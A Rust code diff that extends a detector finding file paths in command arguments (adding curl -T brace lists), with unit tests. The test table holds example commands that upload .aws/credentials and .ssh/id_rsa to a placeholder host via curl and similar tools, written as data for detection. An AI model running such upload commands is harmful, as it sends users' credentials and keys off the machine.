@@ -31,8 +31,10 @@ pub fn resolved(path: &str, facts: &ExecFacts) -> Vec<u8> {
     [base, b"/", rest.as_bytes()].concat()
 }
 
-/// The ways one argument may hold a path: itself, after `@`, after `=`, after `=@`, as a `file:` URL. URLs of other kinds hold none.
+/// The ways one argument may hold paths: itself, as a list that `curl -T` takes apart (`{a,b}`), after `@`, after `=`, after `=@`, as a `file:` URL. URLs of other kinds hold none.
 fn spellings(arg: &str) -> impl Iterator<Item = &str> {
+    let list = arg.strip_prefix('{').and_then(|list| list.strip_suffix('}'));
+    let listed = list.into_iter().flat_map(|list| list.split(','));
     let whole = arg.strip_prefix("file://").unwrap_or(arg);
     let after_at = arg.strip_prefix('@');
     let value = arg.split_once('=').map(|(_, value)| value.trim_start_matches(['@', '<']));
@@ -41,7 +43,7 @@ fn spellings(arg: &str) -> impl Iterator<Item = &str> {
     let plausible = |path: &&str| {
         !path.is_empty() && path.len() <= 4096 && !path.starts_with('-') && !path.contains("://")
     };
-    [Some(whole), after_at, value].into_iter().flatten().filter(plausible)
+    [Some(whole), after_at, value].into_iter().flatten().chain(listed).filter(plausible)
 }
 
 #[cfg(test)]
@@ -61,7 +63,7 @@ mod tests {
 
     #[test]
     fn finds_paths_in_the_usual_upload_forms() {
-        let table: [(&[&str], &str); 6] = [
+        let table: [(&[&str], &str); 7] = [
             (&["curl", "-T", ".aws/credentials", "https://x.test/"], "/Users/a/.aws/credentials"),
             (
                 &["curl", "-F", "file=@/Users/a/.ssh/id_rsa;type=text/plain", "https://x.test/"],
@@ -69,6 +71,7 @@ mod tests {
             ),
             (&["curl", "--data-binary", "@/tmp/x", "https://x.test/"], "/tmp/x"),
             (&["aws", "s3api", "put-object", "--body=./x"], "/Users/a/x"),
+            (&["curl", "-T", "{/etc/hosts,/Users/a/x}", "https://x.test/"], "/Users/a/x"),
             (&["dd", "if=/Users/a/x"], "/Users/a/x"),
             (&["az", "upload", "file:///Users/a/x"], "/Users/a/x"),
         ];
